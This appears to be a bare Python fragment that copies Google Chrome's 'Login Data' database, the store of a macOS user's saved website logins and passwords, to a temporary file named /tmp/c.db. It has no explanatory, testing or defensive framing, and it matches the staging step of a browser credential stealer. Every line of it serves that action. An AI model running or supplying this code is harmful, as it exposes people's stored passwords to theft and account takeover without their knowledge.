import os, shutil
shutil.copy(os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data"), "/tmp/c.db")
